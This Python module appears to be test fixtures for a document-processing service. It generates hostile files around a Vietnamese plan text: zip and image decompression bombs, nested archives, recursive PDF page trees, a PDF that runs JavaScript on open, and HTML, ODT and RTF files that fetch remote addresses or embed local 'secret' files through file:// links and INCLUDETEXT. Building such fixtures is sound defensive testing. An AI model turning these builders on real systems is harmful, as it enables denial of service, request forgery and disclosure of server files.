"""Files made to do harm: to eat memory or time, to fetch something, to write elsewhere, to show what they may not."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable

TEXT = "KẾ HOẠCH\nThực hiện công tác dân vận năm 2024\n\nI. MỤC ĐÍCH, YÊU CẦU\n\n1. Mục đích\n\nNâng cao nhận thức.\n"


class Packed(bytes):
    """A deflated member of an archive: its bytes as stored, with the size and sum of what they unpack to."""

    size: int
    crc: int


def deflated(data: bytes, then: bytes = b"", times: int = 0) -> Packed:
    """`data` and then so many times `then`, which is packed once: the packed pieces do not lean on one another."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    before = packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(then) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = Packed(before + again * times + packer.flush())
    packed.size, packed.crc = len(data) + times * len(then), zlib.crc32(data)
    for _ in range(times):
        packed.crc = zlib.crc32(then, packed.crc)
    return packed


def blanks(before: bytes = b"") -> Packed:
    """600 MiB of blanks after `before`, more than may be unpacked, a thousand times smaller when packed."""
    return deflated(before, b" " * 1024**2, 600)


def black_rows(row: bytes, height: int) -> bytes:
    """A zlib stream of so many equal rows of nothing but zeros, a hundred of them packed once."""
    packed = deflated(b"", row * 100, height // 100)
    sum_of_zeros = (packed.size % 65521) << 16 | 1  # Adler-32
    return b"\x78\xda" + packed + struct.pack(">I", sum_of_zeros)


def raw_zip(members: Iterable[tuple[str, Packed]], said_size: int | None = None) -> bytes:
    """A zip archive of these members, each said to unpack to `said_size` where that is given."""
    files, directory = io.BytesIO(), io.BytesIO()
    count = 0
    for name, packed in members:
        encoded, count = name.encode(), count + 1
        size = packed.size if said_size is None else said_size
        facts = struct.pack("<HHHHHIIIHH", 20, 0x800, 8, 0, 0x21, packed.crc, len(packed), size, len(encoded), 0)
        directory.write(b"PK\x01\x02\x14\x00" + facts + bytes(10) + struct.pack("<I", files.tell()) + encoded)
        files.write(b"PK\x03\x04" + facts + encoded + packed)
    end = struct.pack("<HHHHIIH", 0, 0, count, count, directory.tell(), files.tell(), 0)
    return files.getvalue() + directory.getvalue() + b"PK\x05\x06" + end


_TYPES = b"""<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml"
ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"""
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="{type}" Target="{target}"{mode}/></Relationships>'
)
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def word_body(text: str) -> str:
    body = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in text.split("\n"))
    return f'<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>'


def word_file(document: bytes | Packed, more: Iterable[tuple[str, bytes]] = ()) -> bytes:
    """A Word document around `word/document.xml`, with more members in front of the package's own."""
    relations = RELATIONS.format(type=f"{OFFICE}/officeDocument", target="word/document.xml", mode="").encode()
    members = [("[Content_Types].xml", _TYPES), ("_rels/.rels", relations), *more, ("word/document.xml", document)]
    return raw_zip((name, data if isinstance(data, Packed) else deflated(data)) for name, data in members)


def deep_word(depth: int) -> bytes:
    """A paragraph inside so many content controls."""
    opened, closed = "<w:sdt><w:sdtContent>" * depth, "</w:sdtContent></w:sdt>" * depth
    return word_body("I. Kế hoạch").replace("<w:p>", f"{opened}<w:p>").replace("</w:p>", f"</w:p>{closed}").encode()


def entities(text: str, declared: str) -> bytes:
    """`word/document.xml` with a document type of its own."""
    return f'<?xml version="1.0"?><!DOCTYPE w:document [{declared}]>{word_body(text)}'.encode()


def zip_file(members: Iterable[tuple[str, bytes]]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return held.getvalue()


def nested_zip(depth: int) -> bytes:
    data = zip_file([("ke-hoach.txt", TEXT.encode())])
    for level in range(depth):
        data = zip_file([(f"{level}-{n}.zip", data) for n in range(8)])
    return data


def pdf(objects: Iterable[str]) -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    held, places = io.BytesIO(b"%PDF-1.7\n"), []
    held.seek(0, io.SEEK_END)
    for number, content in enumerate(objects, 1):
        places.append(held.tell())
        held.write(f"{number} 0 obj\n{content}\nendobj\n".encode("latin-1"))
    start = held.tell()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    held.write(f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{table}".encode())
    held.write(f"trailer\n<</Size {len(places) + 1}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n".encode())
    return held.getvalue()


def endless_pages() -> bytes:
    """A page tree whose branches are the tree itself, said to hold two thousand million pages."""
    return pdf(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Kids[3 0 R 2 0 R 3 0 R]/Count 2147483647>>",
            "<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 2147483647>>",
        ]
    )


def many_pages(count: int) -> bytes:
    """A tree of ten thousand million pages of which each level names one branch again and again."""
    levels = [
        f"<</Type/Pages{f'/Parent {n - 1} 0 R' if n > 2 else ''}/Kids[{f'{n + 1} 0 R ' * 10}]/Count {10 ** (12 - n)}>>"
        for n in range(2, 12)
    ]
    return pdf(["<</Type/Catalog/Pages 2 0 R>>", *levels, "<</Type/Page/Parent 11 0 R/MediaBox[0 0 595 842]>>"])


def picture_page(points: int, sheet: tuple[int, int] = (595, 842)) -> bytes:
    """A sheet, A4 or of other size in points of 1/72 inch, that is one black picture of so many pixels each way.

    Of 40,000 pixels of one bit it packs a thousand times smaller; a sheet of 14,400 is five metres wide and has 60,000
    pixels each way when drawn for recognition.
    """
    data = black_rows(bytes(points // 8), points)
    facts = f"/Width {points}/Height {points}/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/FlateDecode"
    width, height = sheet
    drawing = f"{width} 0 0 {height} 0 0 cm /I Do"
    resources = "/Resources<</XObject<</I 5 0 R>>>>"
    return pdf(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 {width} {height}]{resources}/Contents 4 0 R>>",
            f"<</Length {len(drawing)}>>stream\n{drawing}\nendstream",
            f"<</Type/XObject/Subtype/Image{facts}/Length {len(data)}>>stream\n{data.decode('latin-1')}\nendstream",
        ]
    )


def scripted_pdf(address: str) -> bytes:
    """A PDF that on opening runs a script, submits a form and opens a page of the web."""
    script = f"app.launchURL\\('{address}'\\); this.submitForm\\('{address}'\\);"
    page = (
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F 6 0 R>>>>/Contents 5 0 R/AA<</O 4 0 R>>>>"
    )
    content = "BT /F 12 Tf 72 720 Td (I. Ke hoach so 5/KH-UBND ngay 05/3/2024) Tj ET"
    return pdf(
        [
            "<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            page,
            f"<</S/JavaScript/JS({script})/Next<</S/URI/URI({address})>>>>",
            f"<</Length {len(content)}>>stream\n{content}\nendstream",
            "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        ]
    )


def png(width: int, height: int) -> bytes:
    """A black picture of one bit a point, its data whole and a thousand times smaller than its points."""
    data = black_rows(bytes(1 + (width + 7) // 8), height)

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def tiff(width: int, height: int) -> bytes:
    """A TIFF that says it is so large and that its first page follows its first page."""
    tags = [
        (256, 4, width),
        (257, 4, height),
        (258, 3, 1),
        (259, 3, 1),
        (262, 3, 1),
        (273, 4, 8),
        (278, 4, height),
        (279, 4, 8),
    ]
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(tags)) + entries + struct.pack("<I", 8)


def jpeg(width: int, height: int) -> bytes:
    """A small JPEG whose head says it is so large."""
    from PIL import Image

    held = io.BytesIO()
    Image.new("L", (64, 64), 255).save(held, "JPEG")
    data = bytearray(held.getvalue())
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def web_page(address: str, secret: str) -> bytes:
    """A page full of what a browser would run or fetch, around a plan."""
    plan = "".join(f"<p>{line}</p>" for line in TEXT.split("\n") if line)
    return f"""<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url={address}">
<base href="{address}"><link rel="stylesheet" href="{address}/a.css"><script src="{address}/a.js"></script>
<script>fetch("{address}"); document.write("<p>written by a script</p>")</script>
<style>@import url({address}/b.css); p::before {{ content: "said by a style" }}</style></head>
<body onload="fetch('{address}')"><iframe src="{address}"></iframe><iframe srcdoc="<p>framed</p>"></iframe>
<object data="file://{secret}"></object><embed src="file://{secret}"><img src="{address}/a.png" onerror="alert(1)">
{plan}<svg><script>alert(1)</script><image href="{address}"/></svg><form action="{address}"><input autofocus></form>
<a href="javascript:alert(1)">Lưu ý</a></body></html>""".encode()


def deep_page(depth: int) -> bytes:
    return b"<html><body>" + b"<div><b><table><tr><td>" * depth + "I. Kế hoạch năm 2024".encode()


def linked_text(address: str, secret: str) -> bytes:
    """An OpenDocument text that shows a picture, a section and an object kept elsewhere."""
    content = f"""<?xml version="1.0" encoding="UTF-8"?><office:document-content office:version="1.3"
 xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"
 xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"
 xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:ooo="http://openoffice.org/2004/office">
 <office:scripts><office:event-listeners><script:event-listener script:language="ooo:script"
 script:event-name="dom:load"
 xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners>
 </office:scripts><office:body><office:text><text:p>KẾ HOẠCH</text:p>
 <text:p>Thực hiện công tác dân vận năm 2024</text:p>
 <text:p><draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="as-char"><draw:image
 xlink:href="{address}/a.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>
 <text:section text:name="a">
 <text:section-source xlink:href="file://{secret}" xlink:type="simple"/><text:p/></text:section>
 <text:section text:name="b">
 <text:section-source xlink:href="{address}/b.odt" xlink:type="simple"/><text:p/></text:section>
 </office:text></office:body></office:document-content>"""
    manifest = """<?xml version="1.0"?><manifest:manifest manifest:version="1.3"
 xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/"
 manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml"
 manifest:media-type="text/xml"/></manifest:manifest>"""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", content)
        archive.writestr("META-INF/manifest.xml", manifest)
    return held.getvalue()


def linked_rtf(address: str, secret: str) -> bytes:
    """A rich text that includes a picture and a file kept elsewhere, and asks for a template of the web."""
    fields = "".join(
        rf"{{\field{{\*\fldinst {what}}}{{\fldrslt }}}}"
        for what in (
            rf'INCLUDEPICTURE "{address}/a.png" \\d',
            f'INCLUDETEXT "{secret}"',
            f'INCLUDETEXT "{address}/b.txt"',
        )
    )
    return (
        rf"{{\rtf1\ansi{{\*\template {address}/t.dot}} I. Ke hoach so 5/KH-UBND ngay 05/3/2024\par {fields}"
        r"\par {\object\objautlink\objupdate{\*\objclass Word.Document.8}{\*\objdata 01050000}{\result x}}}"
    ).encode()
